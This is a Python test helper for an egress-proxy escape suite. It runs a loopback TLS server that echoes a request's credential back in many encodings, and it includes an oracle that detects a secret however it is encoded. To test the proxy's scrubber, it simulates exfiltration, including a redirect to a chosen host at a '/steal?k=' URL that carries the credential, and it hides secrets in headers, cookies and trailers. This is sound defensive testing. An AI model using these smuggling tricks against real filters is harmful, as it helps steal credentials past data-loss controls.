"""A loopback TLS server that reflects requests in every encoding, and an oracle for leaks.

``Reflector`` stands in for a host a credential is allowed to reach and echoes each request
the way its query string asks (compressed, base64-encoded at any alignment, hex, percent- or
JSON-escaped, split into chunks, in headers...). ``leaks`` finds a secret in data however it
was encoded, independently of the egress proxy's own scrubber. Used by the escape suite's
egress module and the end-to-end exfiltration test.
"""

from __future__ import annotations

import base64
import gzip
import html
import json
import re
import socketserver
import ssl
import threading
import urllib.parse
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

# --------------------------------------------------------------------------- the oracle


_BASE64_RUN = re.compile(rb"[A-Za-z0-9+/_-]{12,}")
_HEX_RUN = re.compile(rb"(?:[0-9A-Fa-f]{2}){8,}")
_ZEROS = re.compile(rb"\x00{64,}")


def _unbroken(data: bytes) -> bytes:
    for line_break in (b"\r", b"\n", b"\\r", b"\\n"):
        data = data.replace(line_break, b"")
    return data


def _unjson(data: bytes) -> bytes:
    def code(match: re.Match[bytes]) -> bytes:
        return chr(int(match.group(1), 16)).encode("utf-8", "surrogatepass")

    data = re.sub(rb"\\u([0-9a-fA-F]{4})", code, data)
    return data.replace(b"\\/", b"/").replace(b'\\"', b'"').replace(b"\\\\", b"\\")


def _inflated(data: bytes) -> Iterator[bytes]:
    """Whatever gzip or zlib streams start anywhere in ``data`` inflate to."""
    for magic, wbits in ((b"\x1f\x8b", 31), (b"\x78", 15)):
        start = data.find(magic)
        while start >= 0:
            try:
                yield zlib.decompressobj(wbits).decompress(memoryview(data)[start:], 1 << 24)
            except zlib.error:
                pass
            start = data.find(magic, start + 1)


def _base64_runs(data: bytes) -> bytes:
    decoded = []
    for run in _BASE64_RUN.findall(data):
        run = run.replace(b"-", b"+").replace(b"_", b"/")
        for offset in range(4):
            piece = run[offset:]
            piece = piece[:-1] if len(piece) % 4 == 1 else piece + b"=" * (-len(piece) % 4)
            decoded.append(base64.b64decode(piece))
    return b"\0".join(decoded)


def _decodings(data: bytes) -> Iterator[tuple[str, bytes]]:
    """Each way one layer of encoding could come off ``data`` (decoded runs joined by NUL bytes)."""
    for inflated in _inflated(data):
        yield "inflated", inflated
    data = _unbroken(data)
    if data.lower() != data:  # escapes written in capitals (\U00E9) read as escapes again
        yield "lower-cased", data.lower()
    if b"%" in data:
        yield "percent", urllib.parse.unquote_to_bytes(data)
    if b"\\" in data:
        yield "JSON", _unjson(data)
    if b"&" in data:
        yield (
            "HTML",
            html.unescape(data.decode("utf-8", "surrogateescape")).encode("utf-8", "surrogateescape"),
        )
    if not data.isascii():  # UTF-8 that was read as Latin-1 and written as UTF-8 again
        yield "Latin-1", data.decode("utf-8", "surrogateescape").encode("latin-1", "ignore")
    yield "base64", _base64_runs(data)
    yield "hex", b"\0".join(bytes.fromhex(run.decode()) for run in _HEX_RUN.findall(data))


def leaks(data: bytes, secret: bytes, depth: int = 3) -> list[str]:
    """How ``secret`` can be read out of ``data`` (as is, in any letter case, or under up to ``depth``
    layers of percent, JSON, HTML, base64 in either alphabet at any alignment, hex, gzip or zlib,
    line breaks ignored); ``[]`` when it cannot. Independent of the proxy's own scrubber."""
    found = set()
    needle = secret.lower()
    frontier = [("as is", _ZEROS.sub(b"\0", data))]
    for level in range(depth + 1):
        deeper = []
        for path, layer in frontier:
            if needle in _unbroken(layer).lower():
                found.add(path)
            if level < depth:
                deeper += [
                    (f"{path} > {name}", out) for name, out in _decodings(layer) if out and out != layer
                ]
        frontier = deeper
    return sorted(found)


@dataclass
class Request:
    method: str
    target: str
    headers: list[tuple[str, str]]
    body: bytes

    def header(self, name: str) -> str | None:
        return next((v for k, v in self.headers if k.lower() == name.lower()), None)

    @property
    def query(self) -> dict[str, str]:
        return dict(urllib.parse.parse_qsl(urllib.parse.urlsplit(self.target).query))

    @property
    def value(self) -> bytes:
        """The credential the request carried: ``X-Key``, else ``Authorization``."""
        return (self.header("x-key") or self.header("authorization") or "").encode("latin-1")

    def echo(self) -> bytes:
        """The request back as a JSON document, as an echo service writes it."""
        document = {
            "method": self.method,
            "url": self.target,
            "headers": dict(self.headers),
            "body": self.body.decode("utf-8", "replace"),
        }
        return json.dumps(document).encode()


def transform(name: str, data: bytes) -> bytes:
    """The whole reflection encoded as ``form=name`` asks."""
    as_text = data.decode("utf-8", "replace")
    transforms: dict[str, Callable[[], bytes]] = {
        "json": lambda: data,
        "upper": lambda: data.upper(),
        "b64": lambda: base64.b64encode(data),
        "b64url": lambda: base64.urlsafe_b64encode(data),
        "b64nopad": lambda: base64.b64encode(data).rstrip(b"="),
        "mime": lambda: base64.encodebytes(data),
        "hex": lambda: data.hex().encode(),
        "HEX": lambda: data.hex().upper().encode(),
        "pct": lambda: urllib.parse.quote(data, safe="").encode(),
        "pctall": lambda: "".join(f"%{b:02X}" for b in data).encode(),
        "pctlow": lambda: "".join(f"%{b:02x}" for b in data).encode(),
        "json_u": lambda: ('{"e": "' + "".join(f"\\u{ord(c):04x}" for c in as_text) + '"}').encode(),
        "json_b64": lambda: json.dumps({"e": base64.b64encode(data).decode()}).replace("/", "\\/").encode(),
        "html": lambda: "".join(f"&#{ord(c)};" for c in as_text).encode(),
        "htmlx": lambda: "".join(f"&#x{ord(c):X};" for c in as_text).encode(),
    }
    return transforms[name]()


def _compress(codings: str, data: bytes) -> bytes:
    for coding in (c.strip() for c in codings.split(",")):
        if coding == "gzip":
            data = gzip.compress(data)
        elif coding == "deflate":
            data = zlib.compress(data)
        elif coding == "deflate-raw":  # raw deflate, as some servers send for "deflate"
            compressor = zlib.compressobj(wbits=-15)
            data = compressor.compress(data) + compressor.flush()
        else:  # br, zstd, anything: bytes the proxy cannot read; the secret sits in them as is
            data = b"\x8b\x05\x80" + data
    return data


def big_body(value: bytes, size: int) -> tuple[bytes, list[int]]:
    """``size`` bytes of filler with ``value`` raw and base64-encoded across read and buffer boundaries."""
    body = bytearray(b"." * size)
    offsets = [5, 16_384 - 7, 65_536 - 11, 1024 * 1024 - 9, size // 2, size - len(value) - 40]
    for offset in offsets:
        body[offset : offset + len(value)] = value
    encoded = base64.b64encode(b"u:" + value)
    for offset in (100_000, 1024 * 1024 + 301):
        body[offset : offset + len(encoded)] = encoded
    return bytes(body), offsets


def reflect(request: Request) -> list[bytes]:
    """The raw response to ``request``, as its query string asks:

    ``form`` (``transform``) with ``pre`` bytes before the echo; ``big=N`` bytes with the value
    scattered instead; ``ce`` content codings; ``chunks=N`` bytes a chunk; ``trailer``, ``hdr``
    (the value in header values and a name), ``reason``, ``early`` (a 103 first), ``loc`` (a 302
    to that host, the value in the URL), ``range`` (honour ``Range``), ``status=101``.
    """
    query = request.query
    value = request.value
    if query.get("status") == "101":
        return [
            b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n" + value
        ]
    status, reason = 200, "OK"
    headers: list[tuple[str, str]] = [("Content-Type", "application/octet-stream"), ("Connection", "close")]
    if "big" in query:
        body, _ = big_body(value, int(query["big"]))
    else:
        prefix = b"P" * int(query.get("pre", "0"))
        body = transform(query.get("form", "json"), prefix + request.echo())
    if "range" in query and (wanted := request.header("range")):
        first, _, last = wanted.removeprefix("bytes=").partition("-")
        status, reason, body = 206, "Partial Content", body[int(first) : int(last) + 1]
    if "ce" in query:
        body = _compress(query["ce"], body)
        headers.append(("Content-Encoding", query["ce"].replace("deflate-raw", "deflate")))
    text_value = value.decode("latin-1")
    if "hdr" in query:
        headers += [
            ("X-Echo", text_value),
            ("Set-Cookie", "c=" + base64.b64encode(value).decode() + "; Path=/"),
            ("X-" + value.hex(), "name"),
            ("WWW-Authenticate", 'Basic realm="' + urllib.parse.quote(text_value) + '"'),
        ]
    if "reason" in query:
        reason = text_value
    if "loc" in query:
        status, reason = 302, "Found"
        stolen = urllib.parse.quote(text_value, safe="")
        encoded = base64.urlsafe_b64encode(value).decode()
        headers.append(("Location", f"http://{query['loc']}/steal?k={stolen}&b={encoded}"))
    pieces = []
    if "early" in query:
        pieces.append(
            f"HTTP/1.1 103 Early Hints\r\nLink: </{text_value}>; rel=preload\r\n\r\n".encode("latin-1")
        )
    size = int(query.get("chunks", "0"))
    if size or "trailer" in query:
        headers.append(("Transfer-Encoding", "chunked"))
        size = size or len(body) // 2 + 1
        chunks = [body[i : i + size] for i in range(0, len(body), size)]
        trailer = f"X-Trailer: {text_value}\r\n" if "trailer" in query else ""
        framed = (
            b"".join(b"%x\r\n%s\r\n" % (len(c), c) for c in chunks) + b"0\r\n" + trailer.encode() + b"\r\n"
        )
    else:
        headers.append(("Content-Length", str(len(body))))
        framed = body
    head = f"HTTP/1.1 {status} {reason}\r\n" + "".join(f"{k}: {v}\r\n" for k, v in headers) + "\r\n"
    pieces += [head.encode("latin-1"), framed]
    return pieces


class Reflector:
    """A TLS HTTP/1.1 server on loopback: one request per connection, recorded before it is answered."""

    def __init__(self, context: ssl.SSLContext, respond: Callable[[Request], list[bytes]] = reflect) -> None:
        self.received: list[Request] = []
        owner = self

        class Handler(socketserver.StreamRequestHandler):
            def handle(self) -> None:
                connection = context.wrap_socket(self.request, server_side=True)
                stream = connection.makefile("rb")
                request = _read_request(stream)
                if request is None:
                    return
                owner.received.append(request)
                for piece in respond(request):
                    connection.sendall(piece)
                connection.close()

        class Server(socketserver.ThreadingTCPServer):
            daemon_threads = True
            allow_reuse_address = True

            def handle_error(self, request: Any, client_address: Any) -> None:
                pass  # clients that hang up are part of the tests

        self._server = Server(("127.0.0.1", 0), Handler)
        self.port = self._server.server_address[1]
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


def _read_request(stream: Any) -> Request | None:
    line = stream.readline()
    if not line:
        return None
    method, target, _ = line.decode("latin-1").split(" ", 2)
    headers = []
    while (field_line := stream.readline()) not in (b"\r\n", b"\n", b""):
        name, _, value = field_line.decode("latin-1").partition(":")
        headers.append((name, value.strip()))
    request = Request(method, target, headers, b"")
    if "chunked" in (request.header("transfer-encoding") or ""):
        while size := int(stream.readline().split(b";")[0], 16):
            request.body += stream.read(size)
            stream.readline()
        while stream.readline() not in (b"\r\n", b"\n", b""):
            pass
    else:
        request.body = stream.read(int(request.header("content-length") or 0))
    return request


# --------------------------------------------------------------------------- the scrubber on its own
